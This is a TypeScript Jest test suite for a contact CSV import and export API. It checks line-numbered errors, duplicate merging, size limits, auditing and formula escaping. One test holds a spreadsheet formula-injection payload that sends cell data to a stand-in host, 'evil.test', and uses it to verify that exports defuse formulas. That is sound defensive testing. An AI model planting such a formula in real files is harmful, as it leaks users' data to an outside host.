import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { describe, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { toSpreadsheetCell } from '../common/spreadsheet-cell.js';
import { startTestApp, useTestApp } from '../testing/api-harness.js';

describe('contact CSV import and export (real PostgreSQL)', () => {
  const { t, db, world } = useTestApp({ env: { IMPORT_MAX_BYTES: String(1024 * 1024) }, world: true });
  const auth = (caller: string) => ({ Authorization: `Bearer ${world.caller(caller).token}` });
  const importCsv = (caller: string, accountId: string, csv: string, query = '') =>
    t.http.post(`/api/accounts/${accountId}/contacts/import${query}`).set(auth(caller)).set('Content-Type', 'text/csv').send(csv);
  const exportCsv = (caller: string, accountId: string, query = '') =>
    t.http
      .get(`/api/accounts/${accountId}/contacts/export${query}`)
      .set(auth(caller))
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        // An error is answered as JSON, as from any route: parsed as such, so its body can be checked like any other.
        res.on('end', () => done(null, String(res.headers['content-type']).startsWith('application/json') ? JSON.parse(text) : text));
      });


  test('import: bad rows reported by line, duplicates merged, existing contacts updated, all in one answer', async () => {
    const account = world.account('standalone').id;
    const tag = randomUUID().slice(0, 8);
    const existing = await db.contact.create({
      data: { accountId: account, email: `Old-${tag}@example.test`, emailKey: `old-${tag}@example.test`, firstName: 'Old', company: 'Keep Co' },
    });
    const unchanged = await db.contact.create({ data: { accountId: account, email: `same-${tag}@example.test`, emailKey: `same-${tag}@example.test`, firstName: 'Same' } });
    const list = await db.contactList.create({ data: { accountId: account, name: `Imported ${tag}` } });
    const csv = [
      'Email,First Name,last_name,Phone,company,favourite colour',
      `new-${tag}@example.test,Ann,Able,555-0100,,blue`, // 2: created
      ',No,Email,,,', // 3: EMAIL_MISSING
      'not-an-email,Bad,Email,,,', // 4: EMAIL_INVALID
      `NEW-${tag}@example.test,,,,Able Inc,red`, // 5: merged into line 2
      `old-${tag}@EXAMPLE.test,Olga,,,,`, // 6: updates the existing contact, keeps its company
      '', // 7: empty, skipped silently
      `long-${tag}@example.test,${'x'.repeat(101)},,,,`, // 8: FIELD_TOO_LONG
      `same-${tag}@example.test,Same,,,,`, // 9: nothing new
      `"quoted-${tag}@example.test","Multi`,
      `Line",,,,`, // 10-11: one record over two lines
    ].join('\r\n');
    const res = await importCsv('soloAm', account, csv, `?listId=${list.id}`);
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.deepEqual(
      { ...res.body, errors: res.body.errors.map((e: { line: number; code: string; email: string | null }) => [e.line, e.code, e.email]) },
      {
        created: 2,
        updated: 1,
        unchanged: 1,
        merged: 1,
        skipped: 3,
        errorCount: 3,
        errors: [
          [3, 'EMAIL_MISSING', null],
          [4, 'EMAIL_INVALID', 'not-an-email'],
          [8, 'FIELD_TOO_LONG', `long-${tag}@example.test`],
        ],
        ignoredColumns: ['favourite colour'],
      },
    );
    const ann = await db.contact.findUniqueOrThrow({ where: { accountId_emailKey: { accountId: account, emailKey: `new-${tag}@example.test` } } });
    assert.deepEqual([ann.email, ann.firstName, ann.lastName, ann.phone, ann.company], [`new-${tag}@example.test`, 'Ann', 'Able', '555-0100', 'Able Inc']);
    const olga = await db.contact.findUniqueOrThrow({ where: { accountId_id: { accountId: account, id: existing.id } } });
    assert.deepEqual([olga.email, olga.firstName, olga.company, olga.version], [`Old-${tag}@example.test`, 'Olga', 'Keep Co', 2]);
    assert.equal((await db.contact.findUniqueOrThrow({ where: { accountId_id: { accountId: account, id: unchanged.id } } })).version, 1);
    const multi = await db.contact.findUniqueOrThrow({ where: { accountId_emailKey: { accountId: account, emailKey: `quoted-${tag}@example.test` } } });
    assert.equal(multi.firstName, 'Multi\r\nLine');
    assert.equal(await db.listMember.count({ where: { listId: list.id } }), 4, 'every imported contact, created or not, joins the list');
    const audit = await db.auditEvent.findFirstOrThrow({ where: { accountId: account, action: 'contacts.imported', targetId: list.id } });
    assert.deepEqual(audit.data, { created: 2, updated: 1, unchanged: 1, merged: 1, skipped: 3, bytes: Buffer.byteLength(csv) });
  });

  test('import: duplicates across batches merge, errors are capped at 100 with the full count', async () => {
    const account = world.account('directClient').id;
    const tag = randomUUID().slice(0, 8);
    const lines = ['email,company'];
    for (let i = 0; i < 120; i++) lines.push(`bad-${i}`);
    for (let i = 0; i < 600; i++) lines.push(`c${i}-${tag}@x.test,`);
    lines.push(`c0-${tag}@x.test,Late Co`);
    const res = await t.http
      .post(`/api/accounts/${account}/contacts/import`)
      .set(auth('directAm'))
      .set('Content-Type', 'text/csv; charset=utf-8')
      .send(lines.join('\n'));
    assert.equal(res.status, 200, JSON.stringify(res.body).slice(0, 300));
    assert.deepEqual([res.body.created, res.body.merged, res.body.skipped, res.body.errorCount, res.body.errors.length], [600, 1, 120, 120, 100]);
    assert.equal(res.body.errors[99].line, 101);
    const first = await db.contact.findUniqueOrThrow({ where: { accountId_emailKey: { accountId: account, emailKey: `c0-${tag}@x.test` } } });
    assert.equal(first.company, 'Late Co');
  });

  test('import: refused whole when too large, without an email column, empty, or not CSV; nothing is written', async () => {
    const account = world.account('referralClient').id;
    const before = await db.contact.count({ where: { accountId: account } });
    const big = ['email', ...Array.from({ length: 300 }, (_, i) => `big-${i}@example.test`)].join('\n');
    assert.ok(Buffer.byteLength(big) > 4096);
    // The same API with a 4 KiB limit; the tokens of the world stay valid on it.
    const small = await startTestApp({ IMPORT_MAX_BYTES: '4096', JWT_SECRET: t.config.JWT_SECRET });
    try {
      const tooLarge = await small.http.post(`/api/accounts/${account}/contacts/import`).set(auth('referralClientOwner')).set('Content-Type', 'text/csv').send(big);
      assert.deepEqual([tooLarge.status, tooLarge.body.code], [413, 'IMPORT_TOO_LARGE']);
      // Without a Content-Length the limit holds as the body streams in.
      const streamed = small.http.post(`/api/accounts/${account}/contacts/import`).set(auth('referralClientOwner')).set('Content-Type', 'text/csv');
      for (let i = 0; i < 10; i++) streamed.write(big.slice(i * 600, (i + 1) * 600));
      const streamedRes = await streamed;
      assert.deepEqual([streamedRes.status, streamedRes.body.code], [413, 'IMPORT_TOO_LARGE']);
      const fits = await small.http.post(`/api/accounts/${account}/contacts/import`).set(auth('referralClientOwner')).set('Content-Type', 'text/csv').send(big.slice(0, 4000));
      assert.equal(fits.status, 200);
      await db.contact.deleteMany({ where: { accountId: account, email: { startsWith: 'big-' } } });
    } finally {
      await small.close();
    }

    assert.equal((await importCsv('referralClientOwner', account, 'name,phone\nAnn,1')).body.code, 'IMPORT_NO_EMAIL_COLUMN');
    assert.equal((await importCsv('referralClientOwner', account, '')).body.code, 'IMPORT_EMPTY');
    const unclosed = await importCsv('referralClientOwner', account, 'email\n"unclosed@example.test');
    assert.deepEqual(
      [unclosed.status, unclosed.body.skipped, unclosed.body.errors.map((e: { line: number; code: string }) => [e.line, e.code])],
      [200, 1, [[2, 'MALFORMED_ROW']]],
    );
    // csv-parse quotes the cell in its message, and a header may name any number of columns: the answer stays small.
    const quoted = await importCsv('referralClientOwner', account, `email\n${'x'.repeat(5000)}"late@example.test"`);
    assert.deepEqual([quoted.status, quoted.body.errors[0].code], [200, 'MALFORMED_ROW']);
    assert.ok(quoted.body.errors[0].message.length <= 500, quoted.body.errors[0].message.length);
    const wide = await importCsv('referralClientOwner', account, ['email', ...Array.from({ length: 150 }, (_, i) => `extra ${i} ${'y'.repeat(200)}`)].join(','));
    assert.deepEqual([wide.status, wide.body.ignoredColumns.length, wide.body.ignoredColumns[0]], [200, 100, `extra 0 ${'y'.repeat(200)}`.slice(0, 100)]);
    const json = await t.http.post(`/api/accounts/${account}/contacts/import`).set(auth('referralClientOwner')).send({ email: 'a@b.c' });
    assert.deepEqual([json.status, json.body.code], [415, 'UNSUPPORTED_MEDIA_TYPE']);
    assert.equal((await importCsv('referralClientOwner', account, 'email\na@b.test', `?listId=${randomUUID()}`)).body.code, 'LIST_NOT_FOUND');
    assert.equal(await db.contact.count({ where: { accountId: account } }), before);
    assert.equal((await importCsv('directCc', world.account('directClient').id, 'email\na@b.test')).status, 403);
  });

  test('export streams exactly what the database holds, for the account or one list, and is audited', async () => {
    const account = world.account('singleBillClient').id;
    const tag = randomUUID().slice(0, 8);
    const csv = ['email,first_name,last_name,phone,company', `special-${tag}@example.test,"Quote ""Q""",Läst,+1 555,"Line\nBreak, Inc"`];
    for (let i = 0; i < 2100; i++) csv.push(`e${i}-${tag}@example.test,F${i},,,`);
    const imported = await importCsv('sbAm', account, csv.join('\n'));
    assert.equal(imported.body.created, 2101, JSON.stringify(imported.body).slice(0, 400));
    const res = await exportCsv('sbOwner', account);
    assert.equal(res.status, 200);
    assert.match(res.headers['content-type'], /^text\/csv/);
    assert.match(res.headers['content-disposition'], /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parse(res.body as string, { columns: true }) as Record<string, string>[];
    const stored = await db.contact.findMany({ where: { accountId: account }, orderBy: { id: 'asc' } });
    assert.equal(rows.length, stored.length);
    assert.deepEqual(
      rows,
      stored.map((c) => ({
        id: c.id,
        email: c.email,
        first_name: toSpreadsheetCell(c.firstName ?? ''),
        last_name: toSpreadsheetCell(c.lastName ?? ''),
        phone: toSpreadsheetCell(c.phone ?? ''),
        company: toSpreadsheetCell(c.company ?? ''),
        status: c.status,
        created_at: c.createdAt.toISOString(),
      })),
    );
    assert.ok(rows.some((r) => r.first_name === 'Quote "Q"' && r.company === 'Line\nBreak, Inc' && r.last_name === 'Läst' && r.phone === "'+1 555"));
    const audit = await db.auditEvent.findFirstOrThrow({ where: { accountId: account, action: 'contacts.exported' }, orderBy: { id: 'desc' } });
    assert.deepEqual(audit.data, { count: stored.length });

    const list = await db.contactList.create({ data: { accountId: account, name: `Export ${tag}` } });
    await db.listMember.createMany({ data: stored.slice(0, 3).map((c) => ({ accountId: account, listId: list.id, contactId: c.id })) });
    const one = parse((await exportCsv('sbOwner', account, `?listId=${list.id}`)).body as string, { columns: true }) as { id: string }[];
    assert.deepEqual(one.map((r) => r.id), stored.slice(0, 3).map((c) => c.id));
    assert.equal((await exportCsv('sbOwner', account, `?listId=${randomUUID()}`)).status, 404);
    assert.equal((await exportCsv('sbOwner', account, '?listId=nope')).status, 400);
  });

  test('export writes would-be formulas as text, and importing the export back changes nothing', async () => {
    const account = world.account('directClient').id;
    const tag = randomUUID().slice(0, 8);
    const formula = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    const csv = ['email,first_name,last_name,phone,company', `f-${tag}@example.test,"${formula.replaceAll('"', '""')}",@lead,+44 20,-Minus Co`, `p-${tag}@example.test,'=quoted,Plain,,`];
    assert.equal((await importCsv('directOwner', account, csv.join('\n'))).body.created, 2);
    const contacts = () => db.contact.findMany({ where: { accountId: account, email: { endsWith: `-${tag}@example.test` } }, orderBy: { email: 'asc' } });
    const before = await contacts();
    assert.deepEqual(
      before.map((c) => [c.firstName, c.lastName, c.phone, c.company]),
      [
        [formula, '@lead', '+44 20', '-Minus Co'],
        ['=quoted', 'Plain', null, null],
      ],
      'an apostrophe before a formula character is taken off on import',
    );

    const list = await db.contactList.create({ data: { accountId: account, name: `Formulas ${tag}` } });
    await db.listMember.createMany({ data: before.map((c) => ({ accountId: account, listId: list.id, contactId: c.id })) });
    const exported = (await exportCsv('directOwner', account, `?listId=${list.id}`)).body as string;
    const rows = parse(exported, { columns: true }) as Record<string, string>[];
    // The export runs in id order: sorted here by email, as `before` is.
    assert.deepEqual(
      rows.sort((x, y) => x.email!.localeCompare(y.email!)).map((r) => [r.first_name, r.last_name, r.phone, r.company]),
      [
        [`'${formula}`, "'@lead", "'+44 20", "'-Minus Co"],
        ["'=quoted", 'Plain', '', ''],
      ],
    );
    const reimported = await importCsv('directOwner', account, exported);
    assert.deepEqual(
      [reimported.body.created, reimported.body.updated, reimported.body.unchanged, reimported.body.skipped],
      [0, 0, 2, 0],
      JSON.stringify(reimported.body),
    );
    assert.deepEqual(await contacts(), before, 'the export imports as it was');
  });
});
